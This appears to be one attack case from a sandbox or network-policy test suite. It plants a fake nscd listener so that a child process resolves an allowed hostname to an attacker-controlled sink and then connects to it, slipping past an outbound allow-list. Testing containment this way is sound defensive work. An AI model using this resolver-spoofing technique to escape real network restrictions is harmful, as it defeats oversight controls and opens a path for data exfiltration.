# class: network
# rule: outbound_connectivity
# policy: lookups.yaml
# success: a child believes the attacker's listener at nscd's socket, which was there when the child
#   started
# proof: sink
# needs: resolver, own_run
import subprocess
import sys

import nscd
from attack import SINK, attempt

CODE = """
import socket, sys
place = (sys.argv[1], int(sys.argv[2]))
found = socket.getaddrinfo("api.allowed.example", place[1], 0, socket.SOCK_STREAM)
sys.exit(found[0][4][0] != place[0] or socket.socket().connect_ex(place))
"""


@attempt
def connect():
    nscd.listen()
    command = [sys.executable, "-S", "-c", CODE, SINK[0], str(SINK[1])]
    return subprocess.run(command, stderr=subprocess.DEVNULL).returncode == 0
